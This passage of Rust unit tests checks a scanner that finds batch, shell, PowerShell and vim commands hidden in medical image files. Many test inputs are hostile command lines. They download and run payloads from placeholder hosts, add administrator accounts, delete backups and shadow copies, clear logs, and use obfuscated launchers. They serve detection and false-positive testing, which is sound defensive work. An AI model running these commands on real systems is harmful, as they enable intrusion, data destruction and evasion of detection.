    /// Issue 10, session 37: a command is read once as cmd.exe reads it, its CRs deleted
    /// ([`super::CmdLine`]), on over the lines a caret continues it to: each line is read
    /// by at most the commands of the [`super::MAX_BATCH_NAME_CONTINUATIONS`] lines before
    /// it, and a line of `&` repeated is read to its next `&` only, so blocks of 8 lines of
    /// `x<CR>^` (each continued, a CR inside), `&a<CR>` and `<Ctrl-Z>a<CR>b` repeated are
    /// read a bounded number of times per byte (a longer chain is a warning that ends the
    /// search, with CRs inside as without: see also
    /// `a_name_over_more_continued_lines_than_the_limit_is_a_warning`).
    #[test]
    fn carriage_return_views_are_read_a_bounded_number_of_times_per_byte() {
        let past = [
            &b"x\n"[..],
            &b"a\r^\n".repeat(super::MAX_BATCH_NAME_CONTINUATIONS + 1),
            b"b -c x\n",
        ]
        .concat();
        let found = find_batch_command(&past).expect("a warning");
        assert!(
            found.detail.contains("MAX_BATCH_NAME_CONTINUATIONS"),
            "{}",
            found.detail
        );
        // (An empty line after the last would join the next block: `y` ends each.)
        let continued = [b"x\r^\r\n".repeat(8), b"y\r\n".to_vec()].concat();
        for (unit, per_byte) in [
            (&continued[..], 9 + 1),
            (&b"&a\r"[..], 2),
            (&b"\x1aa\rb"[..], 2),
        ] {
            let bytes = unit.repeat((1 << 18) / unit.len());
            CARRIAGE_READ.with(|n| n.set(0));
            assert_eq!(find_batch_command(&bytes), None, "{unit:?}");
            let read = CARRIAGE_READ.with(|n| n.get());
            assert!(
                read <= per_byte * bytes.len(),
                "{unit:?}: {read} bytes read for a file of {}",
                bytes.len()
            );
        }
    }

    /// Review r26-screen: 64 MiB of `\`+newline took 55 s of CPU (debug) in the batch
    /// reader, 64 MiB of `^`+CRLF 52 s in the shell model: 32 and 22 million lines, each
    /// copied, unescaped and compared with every tool's name although its one word (`\`,
    /// `^`, `&\`) can name no program. Such lines are turned away at one look now: none
    /// is read as a command, no list searched; a command among them is still found.
    #[test]
    fn lines_whose_word_names_nothing_are_turned_away_at_one_look() {
        for unit in [&b"\\\n"[..], b"^\r\n", b"&\\", b"\\\r\n", b"...\n", b"@\n"] {
            let lines = unit.repeat(1 << 16);
            READ_AS_COMMANDS.with(|n| n.set(0));
            assert!(find_batch_command(&lines).is_none(), "{unit:?}");
            let read = READ_AS_COMMANDS.with(|n| n.get());
            assert_eq!(read, 0, "{unit:?}: {read} lines read as commands");
            LISTS_SEARCHED.with(|n| n.set(0));
            let sh = find_shell_command(&lines);
            let searched = LISTS_SEARCHED.with(|n| n.get());
            assert_eq!(
                searched, 0,
                "{unit:?}: {searched} words searched for ({sh:?})"
            );
            let mut with = lines.clone();
            with.extend_from_slice(b"\r\npowershell -nop -c iex(x)\r\n");
            assert!(find_batch_command(&with).is_some(), "{unit:?}");
        }
        let mut sh = b"^\n".repeat(1 << 16);
        sh.extend_from_slice(b"curl -s http://x/y | sh\n");
        assert!(find_shell_command(&sh).is_some());
    }

    /// 16-bit pixel data as a CT scanner writes it (values near the air and soft tissue
    /// numbers, noise in the low byte): a `!` and a separator every few dozen bytes.
    fn ct_pixels() -> Vec<u8> {
        let mut state = 0x2545_f491_4f6c_dd1du64;
        let mut out = Vec::with_capacity(1 << 20);
        while out.len() < 1 << 20 {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            let value = 900 + (state % 1400) as u16;
            out.extend_from_slice(&value.to_le_bytes());
        }
        out
    }

    /// Perf on bench/scan's `images` tree: the ex and batch searches were a quarter of
    /// the scan's CPU, most of it on candidates a glance at one byte turns away. Those
    /// are no longer looked at (each was a walk back, or a call and a parse).
    #[test]
    fn most_candidates_in_pixel_data_are_turned_away_by_one_byte() {
        let pixels = ct_pixels();
        let bangs = memchr::memchr_iter(b'!', &pixels).count();
        let separators = memchr::memchr3_iter(b'\n', b'&', b'|', &pixels).count();
        assert!(bangs > 1000 && separators > 1000, "{bangs} {separators}");
        LOOKED_AT.with(|n| n.set(0));
        assert!(find_ex_command(&pixels).is_none());
        let ex = LOOKED_AT.with(|n| n.get());
        LOOKED_AT.with(|n| n.set(0));
        assert!(find_batch_command(&pixels).is_none());
        let batch = LOOKED_AT.with(|n| n.get());
        assert!(ex * 3 < bangs, "{ex} of {bangs} bangs looked at");
        assert!(
            batch * 3 < separators,
            "{batch} of {separators} separators looked at"
        );
    }

    /// Review finding (s9-r10): a launcher named by its path, as batch files and droppers
    /// name it (cmd.exe runs `C:\...\cmd.exe` as it runs `cmd`), was no command: each of
    /// these lines got no alert after a line break in a DICOM text element.
    #[test]
    fn launchers_named_by_their_path_are_batch_commands() {
        for line in [
            &b"C:\\Windows\\System32\\cmd.exe /c calc\r\n"[..],
            b"@\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -enc SQBFAFgA\r\n",
            b"\"%ProgramFiles%\\PowerShell\\7\\pwsh.exe\" -c iex x\r\n",
            b"%SystemRoot%\\System32\\mshta.exe http://x/a.hta\r\n",
            b"%COMSPEC% /c powershell -enc SQBFAFgA\r\n",
            b"\\\\?\\C:\\Windows\\System32\\certutil.exe -urlcache -f http://x a.exe\r\n",
            b"d:/tools/rundll32.exe x.dll,Entry\r\n",
        ] {
            let text = [&b"x\r\n"[..], line].concat();
            let found = find_batch_command(&text);
            assert!(
                found.as_ref().is_some_and(|c| c.severity == Severity::Alert),
                "{:?}: {found:?}",
                String::from_utf8_lossy(line)
            );
        }
        // A path to no program, or prose with a drive letter, is no command (a path to
        // any program is one: see the next test).
        for line in [
            &b"C:\\Program Files\\cmd tools\\readme\r\n"[..],
            b"%PATH% is set\r\n",
            b"A: cmd prompt\r\n",
        ] {
            let text = [&b"x\r\n"[..], line].concat();
            assert_eq!(
                find_batch_command(&text),
                None,
                "{:?}",
                String::from_utf8_lossy(line)
            );
        }
    }

    /// Review r25-screen: a program name starting with a byte past ASCII (a letter of the
    /// console's code page: `\x82vil.exe` is `évil.exe` in code page 437) was skipped
    /// unless quoted or named by its path, though cmd.exe runs it as it runs `evil.exe`.
    /// It is judged as any bare name is: with a command's syntax after it.
    #[test]
    fn names_starting_past_ascii_are_batch_commands() {
        for line in [
            &b"\x82vil.exe\r\n"[..],
            b"\x82vil.exe /c x\r\n",
            b"\xe9vil.bat & x\r\n",
            b"\xc3\xa9vil.cmd > out.txt\r\n",
        ] {
            let text = [&b"\0\0x\r\n"[..], line].concat();
            let found = find_batch_command(&text);
            assert!(
                found.is_some_and(|c| c.severity == Severity::Alert),
                "{}",
                String::from_utf8_lossy(line)
            );
        }
        // Prose after such a name, and pixel bytes, are no command.
        for line in [
            &b"\x82vil.exe is the name of the tool\r\n"[..],
            b"\x82\x83\x84 \x85.\x86\r\n",
        ] {
            let text = [&b"\0\0x\r\n"[..], line].concat();
            assert_eq!(find_batch_command(&text), None, "{line:?}");
        }
    }

    /// Review s23 (lead): cmd.exe runs whatever program a line of a batch file names, and
    /// only the launchers of other interpreters (and `vssadmin`) were known here: each of
    /// these lines, after a line break in a DICOM text element, was clean. They are the
    /// lines of intruders' and ransomware's batch files: a program of any name (by its
    /// extension, bare, by its path or on a share), downloads, backups and shadow copies
    /// deleted, logs cleared, services stopped, accounts added, autoruns written.
    #[test]
    fn any_program_and_the_tools_of_intruders_are_batch_commands() {
        for line in [
            &b"calc.exe\r\n"[..],
            b"1.exe\r\n",
            b"&evil.bat\r\n",
            b"call evil.cmd\r\n",
            b"payload.vbs\r\n",
            b"C:\\Users\\Public\\x.exe\r\n",
            b"C:\\Windows\\System32\\notepad.exe readme.txt\r\n",
            b"\\\\10.0.0.5\\share\\x.exe\r\n",
            b"\"\\\\10.0.0.5\\share\\\x82t\x82.exe\"\r\n",
            b"curl http://evil/x -o %TEMP%\\x.exe & %TEMP%\\x.exe\r\n",
            b"forfiles /p c:\\windows /m notepad.exe /c calc\r\n",
            b"net user hacker P@ss /add\r\n",
            b"NET1 localgroup administrators hacker /add\r\n",
            b"reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d c:\\x.exe\r\n",
            b"bcdedit /set {default} recoveryenabled no\r\n",
            b"wbadmin delete catalog -quiet\r\n",
            b"wevtutil cl security\r\n",
            b"sc stop MSSQLSERVER\r\n",
            b"taskkill /f /im sqlservr.exe\r\n",
            b"msbuild evil.xml\r\n",
            b"cmstp /s x.inf\r\n",
            b"ftp -s:cmds.txt\r\n",
            b"del /s /f /q c:\\*.bak\r\n",
            b"cipher /w:c:\\\r\n",
            b"tar -xf x.zip\r\n",
            b"wsl -e sh -c id\r\n",
            b"t^a^s^k^k^i^l^l /im x\r\n",
            b"(calc.exe)\r\n",
            b"if 1==1 (calc.exe) else (x)\r\n",
            b".\\evil.exe\r\n",
            b"..\\x\\evil.exe\r\n",
            b"%~dp0evil.exe\r\n",
            b"explorer http://evil/\r\n",
        ] {
            let text = [&b"\0\0x\r\n"[..], line].concat();
            let found = find_batch_command(&text);
            assert!(
                found
                    .as_ref()
                    .is_some_and(|c| c.severity == Severity::Alert && c.interpreter == "batch"),
                "{:?}: {found:?}",
                String::from_utf8_lossy(line)
            );
        }
        // Clinical and technical English that starts with these names, and code that
        // names a launcher, is no command: a tool that is also a word needs a command's
        // argument (a switch, a URL, a quoted or runnable name) or its subcommand.
        for line in [
            &b"Net change in volume: none\r\n"[..],
            b"REG region of interest\r\n",
            b"SC injection given\r\n",
            b"TAR syndrome suspected\r\n",
            b"cURL library updated\r\n",
            b"Cipher commands\r\n",
            b"Del Monte\r\n",
            b"RD 2 mm\r\n",
            b"FTP server down\r\n",
            b"WSL\t\xb0\xbc\x1d\xf4;x\r\n",
            b"\"cmd.exe\";\r\n",
            b"EGENIX.COM SOFTWARE GMBH\r\n",
            b".exe\r\n",
            b"x.exe1\r\n",
            b"%~nx0 was started\r\n",
            b"Explorer view of the series\r\n",
            b"tools\\readme.txt\r\n",
        ] {
            let text = [&b"\0\0x\r\n"[..], line].concat();
            assert_eq!(
                find_batch_command(&text),
                None,
                "{:?}",
                String::from_utf8_lossy(line)
            );
        }
    }

    /// Issue 10 (review r30-falsepos): an ambiguous tool counted with any `/X` or `-X` after
    /// it, or any quote (`\nRd /GNCth`, `\nRD "` in compressed pixel data: a chance
    /// command every ~10^5 windows of 64 KiB). It counts with a switch it really takes
    /// ([`BATCH_SWITCHES`], in the style it takes them: `/s` for cmd.exe's own commands,
    /// `-x` for the tools ported from Unix), its subcommand, a URL, a runnable name, or
    /// for `start` a quoted title.
    #[test]
    fn ambiguous_tools_count_only_with_switches_they_take() {
        for line in [
            &b"rd /s /q C:\\PACS\r\n"[..],
            b"RMDIR /S /Q x\r\n",
            b"RD /s/q x\r\n",
            b"rd /Q /S x\r\n",
            b"del /f /s /q c:\\*.bak\r\n",
            b"erase /q x\r\n",
            b"del /a:h x\r\n",
            b"cmd /c calc\r\n",
            b"cmd /ccalc\r\n",
            // Session 40: what `/c`, `/k` and a `start` title run is judged as a command
            // (glued to the switch, `x` a program no Windows has runs nothing: see
            // `lolbin_tests`).
            b"CMD /Q /C x.exe\r\n",
            b"cmd /k C:\\x\\y\r\n",
            b"cmd /v:on /c whoami\r\n",
            // A plain name after a lone `/c` or `/k`: found by PATHEXT (`hands_a_plain_name`).
            b"cmd /k x\r\n",
            b"start /b x.exe\r\n",
            b"start /MIN calc\r\n",
            b"start \"\" x.bat\r\n",
            // A plain name after an empty title or a switch (`hands_a_plain_name`).
            b"start \"\" x\r\n",
            b"start /b x\r\n",
            b"cipher /w:c:\\\r\n",
            b"tar -xf x.zip\r\n",
            b"tar -xzf x.tgz\r\n",
            b"tar --extract -f x\r\n",
            b"curl -sSL http://x/y\r\n",
            b"curl -o x.bin x\r\n",
            b"wsl -e sh -c id\r\n",
            b"wsl --exec sh\r\n",
            b"ftp -s:cmds.txt\r\n",
            b"explorer /select,C:\\x\r\n",
            b"pwsh -c iex x\r\n",
            b"PWSH /NoP /enc AAAA\r\n",
            b"pwsh \xe2\x80\x93Command x\r\n",
            b"pwsh x.ps1\r\n",
            b"wmic process call create calc\r\n",
            b"wmic /node:10.0.0.5 process call create x\r\n",
            b"WMIC shadowcopy delete /nointeractive\r\n",
            b"msdt /id PCWDiagnostic /skip force\r\n",
        ] {
            let text = [&b"\0\0x\r\n"[..], line].concat();
            let found = find_batch_command(&text);
            assert!(
                found
                    .as_ref()
                    .is_some_and(|c| c.severity == Severity::Alert),
                "{:?}: {found:?}",
                String::from_utf8_lossy(line)
            );
        }
        for line in [
            &b"Rd /GNCth\n"[..],
            b"RD /x\r\n",
            b"rd -s x\r\n",
            b"rd \"\x93\x01\r\n",
            b"Del \"Monte\"\r\n",
            b"del /z x\r\n",
            b"cmd /x\r\n",
            b"cmd -c x\r\n",
            b"cmd /q\r\n",
            b"start /qq\r\n",
            b"sc /s\r\n",
            b"net /s\r\n",
            b"reg -q\r\n",
            b"tar -%\r\n",
            b"wsl /e\r\n",
            b"cipher /zz\r\n",
            b"pwsh\r\n",
            b"PwSh\t\x93/\x01\r\n",
            b"pwsh -zz\r\n",
            b"wmic\r\n",
            b"WMIC ;\xd0q\r\n",
            b"msdt /zz\r\n",
        ] {
            let text = [&b"\0\0x\r\n"[..], line].concat();
            assert_eq!(
                find_batch_command(&text),
                None,
                "{:?}",
                String::from_utf8_lossy(line)
            );
        }
    }

    /// Issue 10 (session 32): an ambiguous tool counted only with a switch as its first
    /// argument, so `rd x /s /q C:\` and `del foo /f /q` (cmd.exe reads a switch
    /// wherever it stands among the arguments) were missed. A switch the tool takes
    /// counts among its arguments on the same line (its first three in binary values until
    /// session 34); one on the next line or past an operator does not.
    #[test]
    fn ambiguous_tools_count_with_a_switch_among_their_first_arguments() {
        for line in [
            &b"rd x /s /q C:\\\r\n"[..],
            b"rd C:\\PACS\\images /S /Q\r\n",
            b"RMDIR \"C:\\Program Files\\PACS\" /s /q\r\n",
            b"del foo /f /q\r\n",
            b"del C:\\PACS\\*.dcm /f /s /q\r\n",
            b"erase x.bak y.bak /q\r\n",
            b"cmd x /c calc\r\n",
            b"tar f.tar -xf\r\n",
            b"curl http//x -o y\r\n",
            b"pwsh x y -enc AAAA\r\n",
        ] {
            let text = [&b"\0\0x\r\n"[..], line].concat();
            let found = find_batch_command(&text);
            assert!(
                found
                    .as_ref()
                    .is_some_and(|c| c.severity == Severity::Alert),
                "{:?}: {found:?}",
                String::from_utf8_lossy(line)
            );
        }
        let far: Vec<u8> = [&b"rd"[..], &b" x".repeat(3), b" /s\r\n"].concat();
        let near: Vec<u8> = [&b"rd"[..], &b" x".repeat(2), b" /s\r\n"].concat();
        for (line, counts) in [
            (&far[..], true),
            (&near[..], true),
            (b"rd x\r\n/s /q\r\n", false),
            (b"rd \"x\x1a/s\"\r\n", false),
            (b"rd x & /s\r\n", false),
            (b"rd x | /s\r\n", false),
            (b"rd x > /s\r\n", false),
            (b"Del \"Monte\" x /z\r\n", false),
            (b"rd x -s\r\n", false),
            (b"Rd the /GNCth\n", false),
        ] {
            let text = [&b"\0\0x\r\n"[..], line].concat();
            let found = find_batch_command(&text);
            assert_eq!(
                found.is_some(),
                counts,
                "{:?}: {found:?}",
                String::from_utf8_lossy(line)
            );
        }
    }

    /// Issue 10 (review r30-falsepos): a `)` ended a bare name wherever it stood
    /// (`\nzE\xdb-nUR.JsE)` in compressed pixel data was a command), but cmd.exe ends a
    /// name at `)` only inside a block a `(` opened at a command's start, on this line or
    /// an earlier one; elsewhere `)` is a byte of the name.
    #[test]
    fn a_parenthesis_ends_a_name_only_inside_a_block() {
        for text in [
            &b"\0\0x\r\n(calc.exe)\r\n"[..],
            b"(\r\ncalc.exe)\r\n",
            b"\0\0x\r\nif 1==1 (calc.exe) else (x)\r\n",
            b"\0\0x\r\nif exist x (\r\n  calc.exe)\r\n",
            b"\0\0x\r\n(\r\necho a\r\ncalc.exe)\r\n",
            b"\0\0x\r\n(echo a & calc.exe)\r\n",
            b"\0\0x\r\n((echo a) & calc.exe)\r\n",
            b"\0\0x\r\nfor %%a in (1) do (calc.exe)\r\n",
            b"\0\0x\r\n(echo \")\" & calc.exe)\r\n",
        ] {
            let found = find_batch_command(text);
            assert!(
                found
                    .as_ref()
                    .is_some_and(|c| c.severity == Severity::Alert),
                "{:?}: {found:?}",
                String::from_utf8_lossy(text)
            );
        }
        for text in [
            &b"\0\0x\nzE\xdb-nUR.JsE)\x01"[..],
            b"\0\0x\r\ncalc.exe)\x01\r\n",
            b"\0\0x\r\n(echo a) & calc.exe)\x01\r\n",
            b"\0\0x\r\n(echo a)\r\ncalc.exe)\x01\r\n",
        ] {
            assert_eq!(
                find_batch_command(text),
                None,
                "{:?}",
                String::from_utf8_lossy(text)
            );
        }
    }

    /// Review r23-screen: lines of real documentation and code that start with a file name
    /// of a runnable extension (Node.js's manual, Python's library, vim's help) were
    /// alerts, 174 of 31,685 real text files in a DICOM text element. A bare name, which
    /// runs only if such a file sits in the current folder, counts with a command's
    /// syntax after it (nothing, a switch, a URL, a quoted or runnable argument, an
    /// operator or redirection), as a launcher that is also a word does.
    #[test]
    fn prose_and_code_starting_with_a_file_name_are_no_batch_command() {
        for line in [
            &b"Node.js supports the creation of [single executable applications]\r\n"[..],
            b"Node.js v20.20.2 Documentation</title>\r\n",
            b"Underscore.js is a utility-belt library for JavaScript\r\n",
            b"self.cmd = cmd\r\n",
            b"self.exe = shutil.which(self.program)\r\n",
            b"vimtutor.bat in the $VIMRUNTIME directory.\r\n",
            b"idle.bat, idle.py, idle.pyw, idlever.py, keydefs.py\r\n",
            b"openssl.exe is called with the 's_server' option\r\n",
            b"Node.js\r\n",
            b"\"Node.js\"\r\n",
        ] {
            let text = [&b"\0\0x\r\n"[..], line].concat();
            assert_eq!(
                find_batch_command(&text),
                None,
                "{:?}",
                String::from_utf8_lossy(line)
            );
        }
        for line in [
            &b"payload.vbs > nul\r\n"[..],
            b"payload.js /e\r\n",
            b"\\\\host\\share\\payload.js\r\n",
            b"evil.exe /s\r\n",
            b"x.vbs /e:jscript\r\n",
            b"evil.bat http://x/y\r\n",
            b"setup.msi \"a\"\r\n",
            b"evil.exe & calc\r\n",
            b"evil.exe other.exe\r\n",
        ] {
            let text = [&b"\0\0x\r\n"[..], line].concat();
            let found = find_batch_command(&text);
            assert!(
                found
                    .as_ref()
                    .is_some_and(|c| c.severity == Severity::Alert && c.interpreter == "batch"),
                "{:?}: {found:?}",
                String::from_utf8_lossy(line)
            );
        }
    }

    /// The filters turn away only what the full checks reject: every byte outside them,
    /// before a `!` or after a separator, in front of escapes and command lines that are
    /// found with a byte inside them.
    #[test]
    fn the_one_byte_filters_turn_away_only_what_finds_nothing() {
        let escapes: [&[u8]; 6] = [
            b"!sh -c id\n",
            b"r !sh -c id\n",
            b"1,2!sh -c id\n",
            b"set nocp|!sh -c id\n",
            b":!sh -c id\n",
            b"w !sh -c id\n",
        ];
        let lines: [&[u8]; 11] = [
            b"C:\\Windows\\System32\\cmd.exe /c calc\r\n",
            b"1.exe\r\n",
            b"net user x /add\r\n",
            b"%ComSpec% /c start evil.exe\r\n",
            b"\\\\?\\C:\\Windows\\mshta.exe http://x\r\n",
            b"powershell -enc AAAA\r\n",
            b"@ call cmd /c start evil.exe\r\n",
            b"if exist x powershell -c x\r\n",
            b"for %%a in (1) do certutil -urlcache\r\n",
            b"p^ower^shell -c x\r\n",
            b"\"mshta.exe\" http://x\r\n",
        ];
        let prefixes: [&[u8]; 10] = [
            b"", b"\n", b"x\n", b"x|", b"x\n1,2", b"x\nr ", b"x\n/a", b"x\n?a", b"x\n'", b"x\n\\",
        ];
        for b in 0..=255u8 {
            // The byte just before a `!`, after every kind of text that can precede it.
            for prefix in prefixes {
                let text = [prefix, &[b], b"!sh"].concat();
                if ex_escape(&text, prefix.len() + 1).is_some() {
                    assert!(EX_BEFORE_BANG[usize::from(b)], "{b:#x} after {prefix:?}");
                }
            }
            for line in lines {
                let text = [&b"x\n"[..], &[b], line].concat();
                if batch_command_at(
                    &text,
                    2,
                    &mut Variables::default(),
                    &mut Blocks::default(),
                    Binary(&[]),
                )
                .is_some()
                {
                    assert!(
                        BATCH_COMMAND_START[usize::from(b)],
                        "{b:#x} before {line:?}"
                    );
                }
            }
        }
        // And each escape and line is found (the loops above were not empty).
        for escape in escapes {
            assert!(
                find_ex_command(&[&b"x\n"[..], escape].concat()).is_some(),
                "{escape:?}"
            );
        }
        for line in lines {
            assert!(
                find_batch_command(&[&b"x\n"[..], line].concat()).is_some(),
                "{line:?}"
            );
        }
    }
    use super::*;

    /// MAX_VIM_EXECUTE_NESTING: strings run as Ex lines inside one another are read for
    /// the lines they write to the limit, and past it a warning naming it.
    #[test]
    fn strings_run_as_ex_lines_are_read_to_their_nesting_limit_and_past_it_reported() {
        let nested = |depth: usize| {
            let mut text = "norm! ix".to_owned();
            for _ in 0..depth {
                text = format!("exe '{}'", text.replace('\'', "''"));
            }
            text
        };
        let limit = vim_buffer::MAX_VIM_EXECUTE_NESTING;
        assert_eq!(find_ex_command(nested(limit).as_bytes()), None);
        let found = find_ex_command(nested(limit + 1).as_bytes()).expect("told");
        assert_eq!(found.severity, Severity::Warning, "{found:?}");
        assert!(
            found.detail.contains("MAX_VIM_EXECUTE_NESTING"),
            "{found:?}"
        );
    }

    /// LONGEST_NAME lets a long word skip the name lists: no name in them may be longer.
    /// Shell patterns as dash matches them, and a pattern of many stars (the attacker's)
    /// against a name it misses at the end: one backtracking point, no blow-up.
    #[test]
    fn patterns_match_names_as_the_shell_matches_them() {
        for (pattern, name) in [
            (&b"d?sh"[..], &b"dash"[..]),
            (b"pyth[o]n3", b"python3"),
            (b"py*3", b"python3"),
            (b"[!x]ash", b"dash"),
            (b"[c-e]ash", b"dash"),
            (b"*", b"sh"),
            (b"s*h", b"sh"),
            (b"[[:alpha:]]ash", b"dash"),
            (b"b[[:lower:][:digit:]]n", b"bin"),
            (b"[![:digit:]]in", b"bin"),
            (b"[]]x", b"]x"),
        ] {
            assert!(pattern_matches(pattern, name), "{pattern:?}");
        }
        for (pattern, name) in [
            (&b"d?sh"[..], &b"bash"[..]),
            (b"[!d]ash", b"dash"),
            (b"py*2", b"python3"),
            (b"[sh", b"sh"),
            (b"sh?", b"sh"),
            (b"[[:digit:]]ash", b"dash"),
            (b"[[:nothing:]]ash", b"dash"),
        ] {
            assert!(!pattern_matches(pattern, name), "{pattern:?}");
        }
        let stars = b"*a".repeat(30);
        assert!(!pattern_matches(
            &[&stars[..], b"b"].concat(),
            b"aaaaaaaaaa"
        ));
        assert!(is_strong(b"/bin/d?sh") && is_strong(b"/???/???/pyth?n3"));
        assert!(!is_strong(b"/*") && !is_strong(b"/**") && !is_strong(b"/usr/share/d?c"));
        for program in [
            &b"/???/t?uch"[..],
            b"/tmp/ev?l",
            b"/*/bin/x*",
            b"/v?r/tmp/[a-z]vil",
            b"./ev?l",
            b"/usr/local/b[i]n/x",
        ] {
            assert!(is_strong(program), "{program:?}");
        }
        assert!(is_strong(b"~/evil") && is_strong(b"~root/.x/run") && is_strong(b"~/ev?l"));
        assert!(!is_strong(b"~") && !is_strong(b"~/") && !is_strong(b"~user"));
        assert!(!is_strong(b"~/.vimrc") && !is_strong(b"~/_vimrc") && !is_strong(b"~/.vim/"));
        for data in [
            &b"/*[clinic"[..],
            b"/**/*",
            b"/*/",
            b"/usr/share/*.txt",
            b"/etc/*.conf",
            b"/usr/lib/python3*/x",
        ] {
            assert!(!is_strong(data), "{data:?}");
        }
    }

    #[test]
    fn no_listed_name_is_longer_than_longest_name() {
        for name in STRONG.iter().chain(&WEAK) {
            assert!(
                name.len() <= LONGEST_NAME,
                "{}",
                String::from_utf8_lossy(name)
            );
        }
    }

    #[test]
    fn a_command_on_its_own_line_after_binary_bytes_is_found() {
        let file = b"\0\0\0DICM\x02\0\x01\0OB\0\0\nwget http://x/y -O /tmp/y\n\x01\x02";
        let command = find_shell_command(file).expect("found");
        assert_eq!(&file[command.offset..command.offset + 4], b"wget");
    }

    #[test]
    fn what_breaks_the_parse_before_the_command_hides_it() {
        for file in [
            &b"abc)\ncurl x\n"[..],
            b"x\n;curl x\n",
            b"it's\ncurl x\n",
            b"a(b\ncurl x\n",
            b"x\ncurl x |\n",
        ] {
            assert_eq!(find_shell_command(file), None, "{file:?}");
        }
    }

    /// Review finding: report text raised batch and shell alerts.
    #[test]
    fn clinical_text_and_base64_are_not_commands() {
        for text in [
            &b"Findings:\r\nCMD (common bile duct) measures 6 mm.\r\n"[..],
            b"Patient tolerated procedure well.\r\nStart of contrast injection at 10:32.\r\n",
            b"x\nstart = time.time()\n",
            b"x\ncmd line options were reviewed\n",
        ] {
            assert_eq!(find_batch_command(text), None, "{text:?}");
        }
        for line in [
            &b"x\n/9j/4AAQSkZJRgABAQEASABIAAD/2wBDAAgGBgcGBQgHBwcJCQgKDBQNDAsLDBkSEw8U\n"[..],
            b"x\n/+3kq0Yb8vW2mJd1a/Zx7QeR4tN6pLsFgHcUoIyAvEwK\n",
        ] {
            assert_eq!(find_shell_command(line), None, "{line:?}");
        }
        // The real thing still counts.
        for command in [
            &b"x\r\ncmd /c calc.exe\r\n"[..],
            b"x\r\nstart /b payload.exe\r\n",
            b"x\r\nstart \"\" evil.hta\r\n",
            b"x\r\nSTART http://203.0.113.9/x\r\n",
        ] {
            assert!(find_batch_command(command).is_some(), "{command:?}");
        }
        assert!(find_shell_command(b"x\n/tmp/payload --run\n").is_some());
    }

    #[test]
    fn clinical_words_need_shell_syntax() {
        assert_eq!(
            find_shell_command(b"x\necho shows normal LV function\n"),
            None
        );
        assert_eq!(find_shell_command(b"x\ncat scan ordered\n"), None);
        assert_eq!(
            find_shell_command(b"x\nnode positive, source images kept\n"),
            None
        );
        assert!(find_shell_command(b"x\necho pwned > /tmp/x\n").is_some());
        assert!(find_shell_command(b"x\ntouch /tmp/pwned\n").is_some());
        assert!(find_shell_command(b"x\nA=1 /tmp/run\n").is_some());
        assert!(find_shell_command(b"x\nif true; then\ncurl x\nfi\n").is_some());
        assert!(find_shell_command(b"x\ncat <<EOF\n)(\nEOF\ncurl x\n").is_some());
        // Quotes hide what is inside them, and a closed one lets the parse go on.
        assert_eq!(find_shell_command(b"x 'quoted\ncurl x\n"), None);
        assert!(find_shell_command(b"x 'quoted\n' y\ncurl x\n").is_some());
        assert!(find_shell_command(b"`\x01\x02\x03`\ncurl x\n").is_some());
        assert_eq!(find_shell_command(b"`\x01\x02\x03\ncurl x\n"), None);
    }

    /// Review s8-r10: cmd.exe starts a command after `&`, `&&`, `||` and `|` on the same
    /// line, skips `;`, `,`, `=` and `(` before one, and `call` runs what follows: each
    /// of these ran PowerShell and was no command here (only a line's first word was).
    #[test]
    fn commands_after_cmd_operators_and_call_are_found() {
        for line in [
            &b"\0\x01garbage & powershell -nop -c iex(x)\r\n"[..],
            b"x\r\nver&&powershell -nop -c iex(x)\r\n",
            b"x\r\nver||p^owershell -nop -c iex(x)\r\n",
            b"x\r\necho x|powershell -nop -c iex(x)\r\n",
            b"x\r\ncall powershell -nop -c iex(x)\r\n",
            b"x\r\n;,powershell -nop -c iex(x)\r\n",
            b"x\r\n(powershell -nop -c iex(x))\r\n",
            b"x\r\necho a & (call \"pwsh\" -ec x)\r\n",
            b"x\r\nif 1==1 powershell -nop -c iex(x)\r\n",
            b"x\r\nif /i not \"%a%\" == \"b\" p^owershell -c x\r\n",
            b"x\r\nif exist C:\\x.txt call powershell -c x\r\n",
            b"x\r\nIF %x% GEQ 1 (powershell -c x)\r\n",
            b"x\r\nfor %%a in (1 2) do powershell -c x\r\n",
            b"x\r\nfor /f \"tokens=*\" %%a in ('ver') DO @if 1==1 pwsh -c x\r\n",
        ] {
            let found = find_batch_command(line)
                .unwrap_or_else(|| panic!("{}", String::from_utf8_lossy(line)));
            assert_eq!(found.interpreter, "powershell");
        }
        for text in [
            &b"x\nR&D meeting: the powershell course\n"[..],
            b"x\nQ & A: start of contrast injection | cmd (common bile duct) dilated\n",
            b"x\nrecall powershell training\n",
            b"x\nif the powershell course is full, call us\n",
            b"x\nfor (the patient) do nothing\n",
        ] {
            assert_eq!(
                find_batch_command(text),
                None,
                "{}",
                String::from_utf8_lossy(text)
            );
        }
    }

    /// cmd.exe's token delimiters include vertical tab, form feed and 0xFF besides blanks
    /// and `;,=`; a line may start with any of them, and any ends a program's name.
    /// Ctrl-Z is read as a line feed. Each line ran PowerShell or certutil and got no
    /// alert (issue 10).
    #[test]
    fn lines_starting_with_any_token_delimiter_or_after_ctrl_z_are_batch_commands() {
        for line in [
            &b"\x02\x00\r\n\x0bpowershell -nop -c iex(x)\r\n"[..],
            b"\x02\x00\r\n\x0cpowershell -nop -c iex(x)\r\n",
            b"\x02\x00\r\n\xffpowershell -nop -c iex(x)\r\n",
            b"\x02\x00\r\n\x0b\x0c\xff;,=certutil -urlcache -f http://203.0.113.7/a a\r\n",
            b"\x02\x00\x1acertutil -urlcache -f http://203.0.113.7/a a\r\n",
            b"x\npowershell\x0b-enc ZQBjAGgAbwA=\n",
            b"x\npowershell.exe\xff-enc ZQBjAGgAbwA=\n",
            b"x\ncertutil,-urlcache -f http://203.0.113.7/a a\n",
        ] {
            assert!(
                find_batch_command(line).is_some(),
                "{}",
                String::from_utf8_lossy(line)
            );
        }
        // A name that only starts like a launcher is none, whatever ends it.
        assert_eq!(find_batch_command(b"x\n\x0bcertutilities\x0b\n"), None);
    }

    /// cmd.exe expands `%...%` in a line before it reads the command's name: a name made
    /// of a substring or replacement of a variable (`%ComSpec:~-7,3%` is `cmd`), of a
    /// variable the file sets (`set p=powershell` then `%p% -enc ...`), or with a variable
    /// nothing sets (empty in a batch file) was no command here (issue 10).
    #[test]
    fn percent_expansion_builds_the_command_name_as_cmd_reads_it() {
        for line in [
            &b"x\n%ComSpec:~-7,3% /c calc\n"[..],
